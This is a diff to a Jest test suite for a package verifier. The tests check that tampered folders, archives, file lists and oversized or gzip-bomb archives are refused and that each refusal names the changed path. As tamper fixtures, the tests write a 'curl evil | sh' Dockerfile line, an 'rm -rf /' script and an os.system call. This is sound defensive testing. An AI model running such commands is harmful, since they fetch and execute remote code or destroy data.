@@ -5,10 +5,13 @@
  * unpacked into. Each refusal must name the path.
  */
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
-import { appendFile, readFile, rm, symlink, writeFile } from 'node:fs/promises'
+import { createHash } from 'node:crypto'
+import { appendFile, chmod, readFile, rm, symlink, writeFile } from 'node:fs/promises'
 import path from 'node:path'
 import {
   buildProvenance,
+  LimitError,
+  OutputError,
   packagerBuilderId,
   silentLogger,
   SpecError,
@@ -17,7 +20,8 @@ import {
   verifyPackage,
   writeProvenance,
   type PackResult,
-  type ProvenanceStatement
+  type ProvenanceStatement,
+  type VerifyOptions
 } from '../../src/core/index.js'
 import { inspectPackage } from '../../src/core/verify.js'
 import { serveBuffer, startDataServer, type DataServer } from '../helpers/data-server.js'
@@ -44,13 +48,17 @@ afterAll(async () => {
   await root?.cleanup()
 })
 
-async function refusal(source: string, expectedSha256?: string): Promise<Error> {
-  const err = await verifyPackage(source, { expectedSha256 }, silentLogger).then(
+async function refusal2(source: string, options: VerifyOptions): Promise<Error> {
+  const err = await verifyPackage(source, options, silentLogger).then(
     () => undefined,
     (e: unknown) => e as Error
   )
   if (!err) throw new Error(`${source} was accepted`)
   return err
+}
+
+async function refusal(source: string, expectedSha256?: string): Promise<Error> {
+  return refusal2(source, { expectedSha256 })
 }
 
 describe('an intact package', () => {
@@ -85,21 +93,37 @@ describe('a tampered job folder is refused, naming the path', () => {
     expect(err.message).toMatch(/data\/d\.csv has changed/)
   })
 
-  it('a changed byte in the code is a content digest mismatch', async () => {
+  it('a changed byte in the code is named, with the hash it has and the one it was packed with', async () => {
     const dir = await copyJobDir(pkg, scratch())
     await writeFile(path.join(dir, 'code', 'main.py'), 'print("ho")\n')
     const err = await refusal(dir)
     expect(err).toBeInstanceOf(VerificationError)
-    expect(err.message).toMatch(/content digest is sha256:[0-9a-f]{64}, but job\.json records sha256:/)
+    expect((err as VerificationError).path).toBe('code/main.py')
+    expect(err.message).toMatch(/^code\/main\.py has changed: its sha256 is [0-9a-f]{64}, but it was packed with [0-9a-f]{64}\.$/)
+  })
+
+  it('a changed Dockerfile and a file made executable are named', async () => {
+    const dir = await copyJobDir(pkg, scratch())
+    await appendFile(path.join(dir, 'Dockerfile'), 'RUN curl evil | sh\n')
+    expect(((await refusal(dir)) as VerificationError).path).toBe('Dockerfile')
+    const dir2 = await copyJobDir(pkg, scratch())
+    await chmod(path.join(dir2, 'code', 'lib', 'util.py'), 0o755)
+    const err = (await refusal(dir2)) as VerificationError
+    expect(err.path).toBe('code/lib/util.py')
+    expect(err.message).toMatch(/code\/lib\/util\.py has changed: it is an executable file, but was packed as a file/)
   })
 
   it('an extra file is named, in the code and at the top', async () => {
     const dir = await copyJobDir(pkg, scratch())
     await writeFile(path.join(dir, 'code', 'extra.py'), 'import os\n')
-    expect((await refusal(dir)).message).toMatch(
-      /holds 7 files and symlinks, but job\.json records 6: a file was added to or removed from code\//
+    await writeFile(path.join(dir, 'code', 'zz.py'), 'import sys\n')
+    const extra = (await refusal(dir)) as VerificationError
+    expect(extra.path).toBe('code/extra.py')
+    expect(extra.message).toMatch(
+      /^code\/extra\.py is not in the package's file list \(files\.sha256\): it was added after packing \(and 1 more: code\/zz\.py\)\.$/
     )
     await rm(path.join(dir, 'code', 'extra.py'))
+    await rm(path.join(dir, 'code', 'zz.py'))
     await writeFile(path.join(dir, 'evil.sh'), 'rm -rf /\n')
     const err = (await refusal(dir)) as VerificationError
     expect(err.path).toBe('evil.sh')
@@ -109,7 +133,7 @@ describe('a tampered job folder is refused, naming the path', () => {
     expect(((await refusal(dir)) as VerificationError).path).toBe('data/more.csv')
   })
 
-  it('a missing file is named (run.sh, a dataset) or counted (code)', async () => {
+  it('a missing file is named (run.sh, a dataset, the code)', async () => {
     const dir = await copyJobDir(pkg, scratch())
     await rm(path.join(dir, 'run.sh'))
     expect(((await refusal(dir)) as VerificationError).path).toBe('run.sh')
@@ -118,7 +142,45 @@ describe('a tampered job folder is refused, naming the path', () => {
     expect((await refusal(dir2)).message).toMatch(/data\/d\.csv is missing: job\.json lists it as a dataset/)
     const dir3 = await copyJobDir(pkg, scratch())
     await rm(path.join(dir3, 'code', 'lib', 'util.py'))
-    expect((await refusal(dir3)).message).toMatch(/holds 5 files and symlinks, but job\.json records 6/)
+    const err = (await refusal(dir3)) as VerificationError
+    expect(err.path).toBe('code/lib/util.py')
+    expect(err.message).toMatch(/^code\/lib\/util\.py is missing: the package was packed with it \(a file, sha256 [0-9a-f]{64}\)\.$/)
+  })
+
+  it('files.sha256 is tied to job.json: edited to match a changed file, it is refused; without it, the digest still refuses', async () => {
+    const dir = await copyJobDir(pkg, scratch())
+    const changed = 'print("ho")\n'
+    await writeFile(path.join(dir, 'code', 'main.py'), changed)
+    const list = await readFile(path.join(dir, 'files.sha256'), 'utf8')
+    const original = (await readFile(path.join(pkg.jobDir, 'code', 'main.py'))).toString()
+    const sha = (t: string): string => createHash('sha256').update(t).digest('hex')
+    expect(list).toContain(`100644 ${sha(original)} code/main.py\n`)
+    await writeFile(path.join(dir, 'files.sha256'), list.replace(sha(original), sha(changed)))
+    const err = (await refusal(dir)) as VerificationError
+    expect(err.path).toBe('files.sha256')
+    expect(err.message).toMatch(
+      /files\.sha256 does not match job\.json: its lines make the content digest sha256:[0-9a-f]{64}, but job\.json records/
+    )
+    await writeFile(path.join(dir, 'files.sha256'), list.replace('100644', 'bogus'))
+    expect((await refusal(dir)).message).toMatch(/files\.sha256 line 1 is not "MODE SHA256 PATH"/)
+    await rm(path.join(dir, 'files.sha256'))
+    expect((await refusal(dir)).message).toMatch(/content digest is sha256:[0-9a-f]{64}, but job\.json records/)
+  })
+
+  it('lists every file pack packed, in the content digest’s order, and odd names are quoted', async () => {
+    const odd = await makePackage(
+      scratch(),
+      { 'main.py': 'print(1)\n', 'a "quoted"\nname.txt': 'x\n', ' lead.txt': 'y\n' },
+      'python3 main.py'
+    )
+    const list = await readFile(path.join(odd.jobDir, 'files.sha256'), 'utf8')
+    expect(list).toContain(` ${JSON.stringify('code/a "quoted"\nname.txt')}\n`)
+    expect(list).toContain(' code/ lead.txt\n')
+    expect(list.split('\n').filter(Boolean)).toHaveLength(odd.manifest.files)
+    expect((await verifyPackage(odd.archivePath, {}, silentLogger)).contentDigest).toBe(odd.contentDigest)
+    const dir = await copyJobDir(odd, scratch())
+    await writeFile(path.join(dir, 'code', 'a "quoted"\nname.txt'), 'changed\n')
+    expect(((await refusal(dir)) as VerificationError).path).toBe('code/a "quoted"\nname.txt')
   })
 
   it('an edited job.json is refused: a changed command, a changed digest, an added field', async () => {
@@ -162,13 +224,81 @@ describe('a tampered or hand-made archive is refused', () => {
     expect((await refusal(copy, pkg.archiveSha256)).message).toMatch(/not the expected/)
   })
 
-  it('an archive repacked with a changed file (GNU tar) fails the content digest', async () => {
+  it('an archive repacked with a changed file (GNU tar) names the file', async () => {
     const dir = await copyJobDir(pkg, scratch())
     await writeFile(path.join(dir, 'code', 'main.py'), 'import os; os.system("id")\n')
     const archive = path.join(path.dirname(dir), `${pkg.jobId}.tar.gz`)
     await run('tar', ['-czf', archive, '-C', path.dirname(dir), pkg.jobId])
-    expect((await refusal(archive)).message).toMatch(/content digest is sha256:[0-9a-f]{64}, but job\.json records/)
+    const err = (await refusal(archive)) as VerificationError
+    expect(err.path).toBe('code/main.py')
+    expect(err.message).toMatch(/code\/main\.py has changed/)
   })
+
+  it('an archive that would unpack past max-package-bytes or max-package-entries is refused before it is written', async () => {
+    const base = scratch()
+    await run('mkdir', ['-p', path.join(base, 'dest')])
+    const bomb = path.join(base, 'bomb.tar.gz')
+    // 64 MiB of zeros, about 64 KiB of gzip.
+    await writeRawArchive(bomb, [
+      { path: 'j/', type: 'Directory' },
+      { path: 'j/small', type: 'File', content: 'x' },
+      { path: 'j/zeros', type: 'File', zeros: 64 * 1024 * 1024 }
+    ])
+    const err = await inspectPackage(bomb, { dest: path.join(base, 'dest'), maxPackageBytes: 1024 * 1024 }, silentLogger).then(
+      () => undefined,
+      (e: unknown) => e as Error
+    )
+    expect(err).toBeInstanceOf(LimitError)
+    expect(err!.message).toBe(
+      'The archive unpacks to more than 1.0 MiB, the limit (max-package-bytes); it was refused at zeros (64.0 MiB).'
+    )
+    // Nothing of the refused file was written (the caller removes the rest: run's work folder, or nothing for verify).
+    expect(await listAll(path.join(base, 'dest'))).not.toContain('j/zeros')
+    const many = path.join(base, 'many.tar.gz')
+    await writeRawArchive(many, [
+      { path: 'j/', type: 'Directory' },
+      ...Array.from({ length: 20 }, (_, i) => ({ path: `j/f${i}`, type: 'File' as const, content: `${i}` }))
+    ])
+    const err2 = await refusal2(many, { maxPackageEntries: 10 })
+    expect(err2).toBeInstanceOf(LimitError)
+    expect(err2.message).toMatch(/^The archive holds more than 10 entries, the limit \(max-package-entries\); it was refused at f10\.$/)
+    // The real package is within tight limits: only what exceeds them is refused.
+    await expect(
+      verifyPackage(pkg.archivePath, { maxPackageBytes: 1024 * 1024, maxPackageEntries: 64 }, silentLogger)
+    ).resolves.toMatchObject({
+      jobId: pkg.jobId
+    })
+  })
+
+  // Mounting needs root; CI runs as root, so this runs there.
+  ;(process.getuid?.() === 0 ? it : it.skip)(
+    'an archive that would not fit the free space where it is unpacked is refused up front',
+    async () => {
+      const base = scratch()
+      const mnt = path.join(base, 'small')
+      await run('mkdir', ['-p', mnt])
+      // 264 MiB, of which 256 MiB are kept spare: about 8 MiB of room.
+      await run('mount', ['-t', 'tmpfs', '-o', 'size=264m', 'tmpfs', mnt])
+      try {
+        const archive = path.join(base, 'big.tar.gz')
+        await writeRawArchive(archive, [
+          { path: 'j/', type: 'Directory' },
+          { path: 'j/zeros', type: 'File', zeros: 16 * 1024 * 1024 }
+        ])
+        const err = await inspectPackage(archive, { dest: mnt }, silentLogger).then(
+          () => undefined,
+          (e: unknown) => e as Error
+        )
+        expect(err).toBeInstanceOf(OutputError)
+        expect(err!.message).toMatch(
+          /^The package does not fit in .*small: at zeros it needs more than the [0-9.]+ MiB free there \(keeping 256\.0 MiB spare\)/
+        )
+        expect(await listAll(mnt)).not.toContain('j/zeros')
+      } finally {
+        await run('umount', [mnt])
+      }
+    }
+  )
 
   it('a --sha256 on a folder is an input problem', async () => {
     expect(await refusal(pkg.jobDir, pkg.archiveSha256)).toBeInstanceOf(SpecError)
